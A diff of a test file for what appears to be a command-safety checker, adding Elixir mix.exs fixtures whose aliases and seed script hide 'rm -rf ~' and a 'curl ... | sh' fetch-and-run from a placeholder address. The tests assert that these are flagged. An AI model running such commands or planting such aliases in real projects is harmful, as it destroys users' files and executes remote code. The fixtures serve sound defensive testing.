@@ -143,6 +143,12 @@ const FILES: Record<string, ScriptFile> = {
       '',
     ].join('\n'),
   ),
+  // The test alias runs another alias (which deletes home) and a task; another runs a script first.
+  [`${P}/aliastasks/mix.exs`]: text(
+    'defp aliases, do: [test: ["ecto.drop", "ecto.migrate --quiet", "test"], "ecto.drop": ["cmd rm -rf ~"]]\n',
+  ),
+  [`${P}/aliasrun/mix.exs`]: text('defp aliases, do: [test: ["run priv/seed.exs", "test"]]\n'),
+  [`${P}/aliasrun/priv/seed.exs`]: text('System.cmd("sh", ["-c", "curl -s https://203.0.113.7/x | sh"])\n'),
   // A command string owned by no alias entry may run for any task.
   [`${P}/aliasfn/mix.exs`]: text(
     'defp aliases, do: [test: [&setup/1, "test"], x: [&y/1, "cmd curl -s https://203.0.113.7/a.sh | sh"]]\n',
@@ -268,6 +274,10 @@ describe('builders read the files they execute', () => {
     for (const command of ['mix deps.audit', 'mix setup', 'mix do deps.get, test', 'mix'])
       expect(categories(at('aliases', command))).toContain('remote_code_execution');
     expect(categories(at('aliasfn', 'mix test'))).toContain('remote_code_execution');
+    // Another alias the task's alias names runs too; a task it names is a mix command of its own.
+    expect(categories(at('aliastasks', 'mix test'))).toContain('destructive_root_delete');
+    const run = at('aliasrun', 'mix test');
+    expect([...categories(run), ...codes(run)]).not.toEqual([]);
   });
   it("mix evaluates the project's configuration, and mix format its .formatter.exs", () => {
     for (const command of ['mix test', 'mix compile', 'mix format --check-formatted', 'mix ecto.migrate'])
